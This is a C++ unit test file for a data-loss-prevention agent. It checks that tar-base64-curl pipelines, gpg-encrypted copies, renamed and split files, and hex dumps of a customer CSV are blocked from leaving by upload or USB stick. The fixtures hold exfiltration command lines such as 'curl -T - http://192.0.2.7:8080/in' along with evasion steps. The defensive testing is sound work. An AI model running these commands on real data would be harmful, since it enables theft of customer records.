#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "tests/unit/agent/pipeline_workbench.h"

namespace vigie::agent {
namespace {

using platform::Answer;
using platform::OpenMode;
using ::testing::IsEmpty;
using ::testing::SizeIs;

constexpr char kBlockBoth[] = R"(
version: 3
rules:
  - id: customers-out
    when: {channels: [removable_media, network_transfer], customers_at_least: 10}
    action: block
)";

class PipelineLineage : public ::testing::Test {
 protected:
  PipelineLineage() {
    bench.AttachMedium("/media/stick");
    bench.AddFile("/home/forty.csv", "customers 0 39");
    bench.AddProcess(5, "/usr/bin/tar", "tar c forty.csv");
    bench.AddProcess(6, "/usr/bin/base64", "base64");
    bench.AddProcess(7, "/usr/bin/curl", "curl -T - http://192.0.2.7:8080/in");
    bench.AddProcess(8, "/usr/bin/gpg", "gpg -c forty.csv");
    bench.AddProcess(9, "/usr/bin/cp", "cp forty.csv.gpg /media/stick");
  }

  // The encrypted copy, made and closed.
  void Encrypt() {
    bench.Open(8, "/home/forty.csv");
    bench.AddFile("/home/forty.csv.gpg", "encrypted");
    bench.CloseAfterWrite(8, "/home/forty.csv.gpg");
  }

  PipelineWorkbench bench{{}, kBlockBoth};
};

TEST_F(PipelineLineage, TheReadAtTheBeginningOfAPipelineIsJudgedByItsEnd) {
  bench.Connect(5, {6, 7});
  EXPECT_EQ(bench.Open(5, "/home/forty.csv"), Answer::kDeny);
  const v1::Event event = bench.ToldOnce();
  EXPECT_EQ(event.activity().channel(), v1::CHANNEL_NETWORK_TRANSFER);
  EXPECT_EQ(event.activity().kind(), v1::ACTIVITY_KIND_UPLOAD);
  EXPECT_EQ(event.activity().destination().address(), "192.0.2.7");
  EXPECT_EQ(event.activity().process().exe(), "/usr/bin/tar");
  EXPECT_THAT(event.activity().process().readers(), ::testing::ElementsAre("/usr/bin/base64", "/usr/bin/curl"));
  EXPECT_EQ(event.inspection().customers().distinct(), 40U);
  EXPECT_EQ(event.verdict(), v1::VERDICT_BLOCK);
  EXPECT_EQ(bench.taints.size(), 0U) << "nobody got anything";
}

TEST_F(PipelineLineage, WhatACarrierWritesIsInspectedAtOnceAndAllElseAtLeisure) {
  bench.AddProcess(10, "/usr/bin/cat", "cat forty.csv");
  bench.AddFile("/home/all.csv", "customers 0 39");
  bench.CloseAfterWrite(10, "/home/all.csv");
  EXPECT_EQ(bench.leisurely.inspections(), 1) << "nobody knows yet that it carries";
  bench.Open(10, "/home/forty.csv");
  bench.AddFile("/home/gathered.csv", "customers 0 39");
  bench.CloseAfterWrite(10, "/home/gathered.csv");
  EXPECT_EQ(bench.leisurely.inspections(), 1);
  EXPECT_EQ(bench.Told().back().activity().destination().name(), "/home");
  EXPECT_EQ(bench.Told().back().inspection().customers().distinct(), 40U);
  bench.AddProcess(11, "/usr/bin/cc1", "cc1 a.c");
  bench.AddFile("/home/a.o", "nothing");
  bench.CloseAfterWrite(11, "/home/a.o");
  EXPECT_EQ(bench.leisurely.inspections(), 2) << "a compiler has read none of it";
}

TEST_F(PipelineLineage, TheReaderThatHoldsAFileOnAMediumIsAWayOut) {
  bench.Connect(5, {6});
  bench.process_info.SetWritableFiles(6, {{.device = 5, .inode = 6, .path = "/media/stick/b"}});
  EXPECT_EQ(bench.Open(5, "/home/forty.csv"), Answer::kDeny);
  EXPECT_EQ(bench.ToldOnce().activity().channel(), v1::CHANNEL_REMOVABLE_MEDIA);
  EXPECT_EQ(bench.ToldOnce().activity().file().path(), "/media/stick/b");
}

TEST_F(PipelineLineage, AHarmlessFileGoesThroughTheSamePipeline) {
  bench.AddFile("/home/song.ogg", "nothing");
  bench.Connect(5, {6, 7});
  EXPECT_EQ(bench.Open(5, "/home/song.ogg"), Answer::kAllow);
  EXPECT_THAT(bench.Told(), IsEmpty());
  EXPECT_EQ(bench.taints.size(), 0U);
}

TEST_F(PipelineLineage, APipelineThatStaysHereIsAnArchiveOnly) {
  bench.Connect(5, {6});
  EXPECT_EQ(bench.Open(5, "/home/forty.csv"), Answer::kAllow);
  EXPECT_EQ(bench.ToldOnce().activity().channel(), v1::CHANNEL_ARCHIVE);
}

TEST_F(PipelineLineage, AnEncryptedCopyKeepsItsCustomers) {
  Encrypt();
  const v1::Event event = bench.Told().back();
  EXPECT_EQ(event.activity().kind(), v1::ACTIVITY_KIND_WRITE);
  EXPECT_EQ(event.activity().file().path(), "/home/forty.csv.gpg");
  EXPECT_EQ(event.inspection().evaluated(), v1::EVALUATED_NONE);
  EXPECT_THAT(event.inspection().reasons(), ::testing::ElementsAre(v1::REASON_ENCRYPTED));
  EXPECT_EQ(event.inspection().customers().distinct(), 40U);
  EXPECT_EQ(event.inspection().derived_from().path(), "/home/forty.csv");
  EXPECT_THAT(event.lineage(), SizeIs(1));
  EXPECT_TRUE(bench.IsMarked("/home/forty.csv.gpg"));
}

TEST_F(PipelineLineage, AnEncryptedCopyIsNotCopiedToAMedium) {
  Encrypt();
  EXPECT_EQ(bench.Open(9, "/home/forty.csv.gpg"), Answer::kAllow);
  bench.AddFile("/media/stick/forty.csv.gpg", "");
  EXPECT_EQ(bench.Open(9, "/media/stick/forty.csv.gpg", OpenMode::kWrite), Answer::kDeny);
  const v1::Event event = bench.Told().back();
  EXPECT_EQ(event.inspection().customers().distinct(), 40U);
  EXPECT_EQ(event.inspection().derived_from().path(), "/home/forty.csv");
}

TEST_F(PipelineLineage, NorIsACopyOfTheCopyUnderAPicturesName) {
  Encrypt();
  bench.Rename("/home/forty.csv.gpg", "/home/holiday.png");
  bench.AddProcess(10, "/usr/bin/split", "split -b 1k holiday.png part");
  bench.Open(10, "/home/forty.csv.gpg");
  bench.AddFile("/home/partaa", "binary");
  bench.CloseAfterWrite(10, "/home/partaa");
  bench.AddProcess(11, "/usr/bin/curl", "curl -T partaa http://192.0.2.7/");
  EXPECT_EQ(bench.Open(11, "/home/partaa"), Answer::kDeny);
  const v1::Event event = bench.Told().back();
  EXPECT_EQ(event.inspection().customers().distinct(), 40U);
  EXPECT_EQ(event.inspection().derived_from().path(), "/home/forty.csv") << "the first step, not the last";
}

TEST_F(PipelineLineage, WhoOpensTheCopyBeforeItsCloseWasHandledWaitsForIt) {
  bench.Open(8, "/home/forty.csv");
  bench.AddFile("/home/forty.csv.gpg", "encrypted");
  bench.NoteClosed(8, "/home/forty.csv.gpg");
  bench.AddProcess(11, "/usr/bin/curl", "curl -T forty.csv.gpg http://192.0.2.7/");
  EXPECT_EQ(bench.Open(11, "/home/forty.csv.gpg"), Answer::kDeny);
  EXPECT_EQ(bench.Told().back().inspection().customers().distinct(), 40U);
}

TEST_F(PipelineLineage, TheSameByAProcessThatHasReadNothingIsNotDerived) {
  bench.AddFile("/home/letter.gpg", "encrypted");
  bench.CloseAfterWrite(8, "/home/letter.gpg");
  EXPECT_EQ(bench.Open(9, "/home/letter.gpg"), Answer::kAllow);
  EXPECT_EQ(bench.derived->rows(), 0U);
  for (const v1::Event& event : bench.Told()) EXPECT_FALSE(event.inspection().has_derived_from());
}

TEST_F(PipelineLineage, WhatWasReadToItsEndAndIsCleanIsNotDerived) {
  bench.Open(8, "/home/forty.csv");
  bench.AddFile("/home/summary.txt", "nothing");
  bench.CloseAfterWrite(8, "/home/summary.txt");
  EXPECT_EQ(bench.derived->rows(), 0U);
  EXPECT_FALSE(bench.IsMarked("/home/summary.txt"));
}

TEST_F(PipelineLineage, AnotherAlphabetIsDerivedThoughItCanBeRead) {
  bench.AddProcess(12, "/usr/bin/xxd", "xxd forty.csv");
  bench.Open(12, "/home/forty.csv");
  bench.AddFile("/home/dump.txt", "nothing");
  bench.CloseAfterWrite(12, "/home/dump.txt");
  bench.AddProcess(11, "/usr/bin/curl", "curl -T dump.txt http://192.0.2.7/");
  EXPECT_EQ(bench.Open(11, "/home/dump.txt"), Answer::kDeny);
}

}  // namespace
}  // namespace vigie::agent
